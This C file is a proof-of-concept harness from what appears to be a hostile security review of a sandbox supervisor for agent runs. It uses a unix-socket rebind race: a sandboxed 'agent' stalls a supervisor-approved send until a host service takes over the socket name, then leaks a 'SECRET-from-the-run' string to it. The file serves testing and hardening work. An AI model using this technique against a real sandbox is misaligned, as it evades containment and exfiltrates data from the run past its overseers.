/* ha25-unix.c (hostile review h-attack25): agents and stand-ins for
 * ha25-rebind.sh. Names: "@NAME" abstract, otherwise a path.
 *
 *   squat-serve NAME MARKER stream|dgram  stand-in host service that keeps
 *       trying to bind NAME (a service whose name is taken and that tries
 *       again, e.g. in a restart loop) and, once bound, writes what it gets
 *       to MARKER (first connection or datagram).
 *   park NAME stream|dgram  the agent: binds NAME itself (the run's own
 *       listener or datagram socket), fills its queue from a second
 *       socket of its own (backlog 0; 11 datagrams), then from a thread
 *       connects (stream) or sends (dgram) to NAME, blocking: judged
 *       "local", the supervisor's act waits for room in the full queue.
 *       1 s later the agent closes its own socket. The kernel's blocking
 *       connect/send then looks NAME up again, after the judgement.
 *       On a connect that succeeds, it sends a line on the connected
 *       socket (no name: "connected-peer").
 *   serve-later NAME MARKER SECONDS  stand-in host service that binds the
 *       datagram name NAME only after SECONDS (a service that starts, or
 *       restarts, during the run) and writes the first datagram to MARKER.
 *   wmem NAME  the agent: binds the datagram name NAME itself, fills the
 *       send buffer of a second socket S (SO_SNDBUF small) with datagrams
 *       to another name of its own that nobody reads, and from a thread
 *       sends a line on S to NAME, blocking: judged "local" (the run holds
 *       NAME), the supervisor's sendto on S waits for send-buffer room
 *       before the kernel looks NAME up. The agent closes its NAME socket,
 *       waits until NAME is bound again (/proc/net/unix), here by the host
 *       service, then closes the socket that holds S's datagrams: the
 *       buffer empties, the supervisor's send goes on, and the kernel's
 *       lookup of NAME finds the host's socket. "wmem NAME mmsg": the
 *       same with sendmmsg.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static struct sockaddr_un A;
static socklen_t AL;
static int TYPE;

static socklen_t name_of(struct sockaddr_un *a, const char *p)
{
	memset(a, 0, sizeof(*a));
	a->sun_family = AF_UNIX;
	if (p[0] == '@') {
		size_t n = strlen(p + 1);
		memcpy(a->sun_path + 1, p + 1, n);
		return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
	}
	snprintf(a->sun_path, sizeof(a->sun_path), "%s", p);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(p) + 1);
}

static int squat_serve(const char *marker)
{
	int s = socket(AF_UNIX, TYPE, 0);
	unsigned long tries = 0;
	char buf[256];
	ssize_t n;
	FILE *f;

	while (bind(s, (struct sockaddr *)&A, AL) != 0) {
		if (errno != EADDRINUSE) {
			perror("squat bind");
			return 1;
		}
		tries++;
	}
	fprintf(stderr, "stand-in host service: bound after %lu tries\n", tries);
	if (TYPE == SOCK_STREAM) {
		int c;

		listen(s, 16);
		c = accept(s, NULL, NULL);
		n = read(c, buf, sizeof(buf) - 1);
	} else {
		n = recv(s, buf, sizeof(buf) - 1, 0);
	}
	if (n < 0)
		n = 0;
	buf[n] = 0;
	f = fopen(marker, "w");
	fprintf(f, "host service got: %s\n", buf);
	fclose(f);
	return 0;
}

static void *parked(void *arg)
{
	int s = socket(AF_UNIX, TYPE, 0), rc;
	const char *msg = "SECRET-from-the-run\n";

	(void)arg;
	if (TYPE == SOCK_STREAM) {
		rc = connect(s, (struct sockaddr *)&A, AL);
		fprintf(stderr, "agent: parked connect: %s\n", rc ? strerror(errno) : "connected");
		if (rc == 0) {
			rc = (int)send(s, msg, strlen(msg), 0);
			fprintf(stderr, "agent: send on it: %d %s\n", rc,
				rc < 0 ? strerror(errno) : "");
		}
	} else {
		rc = (int)sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&A, AL);
		fprintf(stderr, "agent: parked sendto: %d %s\n", rc, rc < 0 ? strerror(errno) : "");
	}
	return NULL;
}

static int park(void)
{
	int own = socket(AF_UNIX, TYPE, 0), fill = socket(AF_UNIX, TYPE | SOCK_NONBLOCK, 0);
	pthread_t t;

	if (bind(own, (struct sockaddr *)&A, AL) != 0) {
		perror("agent bind");
		return 1;
	}
	if (TYPE == SOCK_STREAM) {
		listen(own, 0);
		if (connect(fill, (struct sockaddr *)&A, AL) != 0)
			perror("agent fill connect");
	} else {
		for (int i = 0; i < 11; i++)
			if (sendto(fill, "x", 1, 0, (struct sockaddr *)&A, AL) < 0)
				fprintf(stderr, "agent fill %d: %s\n", i, strerror(errno));
	}
	pthread_create(&t, NULL, parked, NULL);
	sleep(1);
	fprintf(stderr, "agent: closing its own socket\n");
	close(own);
	pthread_join(t, NULL);
	close(fill);
	return 0;
}

static int serve_later(const char *marker, int secs)
{
	int s = socket(AF_UNIX, SOCK_DGRAM, 0);
	char buf[256];
	ssize_t n;
	FILE *f;

	sleep((unsigned)secs);
	if (bind(s, (struct sockaddr *)&A, AL) != 0) {
		perror("host service bind");
		return 1;
	}
	fprintf(stderr, "stand-in host service: bound %s\n", A.sun_path + 1);
	n = recv(s, buf, sizeof(buf) - 1, 0);
	buf[n > 0 ? n : 0] = 0;
	f = fopen(marker, "w");
	fprintf(f, "host service got: %s", buf);
	fclose(f);
	return 0;
}

static int S, MMSG;

static void *wmem_send(void *arg)
{
	const char *msg = "SECRET-from-the-run\n";
	struct iovec v = {.iov_base = (void *)msg, .iov_len = strlen(msg)};
	struct mmsghdr m = {
	    .msg_hdr = {.msg_name = &A, .msg_namelen = AL, .msg_iov = &v, .msg_iovlen = 1}};
	ssize_t rc = MMSG ? sendmmsg(S, &m, 1, 0)
			  : sendto(S, msg, strlen(msg), 0, (struct sockaddr *)&A, AL);

	(void)arg;
	fprintf(stderr, "agent: parked sendto: %zd %s\n", rc, rc < 0 ? strerror(errno) : "");
	return NULL;
}

/* Whether /proc/net/unix lists the abstract name (bound by anyone). */
static int bound_now(void)
{
	char line[512], want[128];
	FILE *f = fopen("/proc/net/unix", "r");
	int hit = 0;

	snprintf(want, sizeof(want), " @%s\n", A.sun_path + 1);
	while (f && fgets(line, sizeof(line), f))
		if (strstr(line, want))
			hit = 1;
	if (f)
		fclose(f);
	return hit;
}

static int wmem(void)
{
	struct sockaddr_un sink;
	socklen_t sinkl = name_of(&sink, "@ha25-sink");
	int own = socket(AF_UNIX, SOCK_DGRAM, 0), hold = socket(AF_UNIX, SOCK_DGRAM, 0);
	int small = 4096, sent = 0;
	static char big[3000];
	pthread_t t;

	if (bind(own, (struct sockaddr *)&A, AL) != 0 ||
	    bind(hold, (struct sockaddr *)&sink, sinkl) != 0) {
		perror("agent bind");
		return 1;
	}
	S = socket(AF_UNIX, SOCK_DGRAM, 0);
	setsockopt(S, SOL_SOCKET, SO_SNDBUF, &small, sizeof(small));
	while (sendto(S, big, sizeof(big), MSG_DONTWAIT, (struct sockaddr *)&sink, sinkl) > 0)
		sent++;
	fprintf(stderr, "agent: %d datagrams fill S's send buffer (%s)\n", sent, strerror(errno));
	pthread_create(&t, NULL, wmem_send, NULL);
	sleep(1);
	fprintf(stderr, "agent: closing its own %s\n", A.sun_path + 1);
	close(own);
	for (int i = 0; i < 600 && !bound_now(); i++)
		usleep(100000);
	fprintf(stderr, "agent: %s is bound again; emptying S's buffer\n", A.sun_path + 1);
	close(hold);
	pthread_join(t, NULL);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	AL = name_of(&A, argv[2]);
	TYPE = strcmp(argv[argc - 1], "dgram") == 0 ? SOCK_DGRAM : SOCK_STREAM;
	if (strcmp(argv[1], "squat-serve") == 0)
		return squat_serve(argv[3]);
	if (strcmp(argv[1], "park") == 0)
		return park();
	if (strcmp(argv[1], "serve-later") == 0)
		return serve_later(argv[3], atoi(argv[4]));
	if (strcmp(argv[1], "wmem") == 0) {
		MMSG = argc > 3 && strcmp(argv[3], "mmsg") == 0;
		return wmem();
	}
	return 2;
}
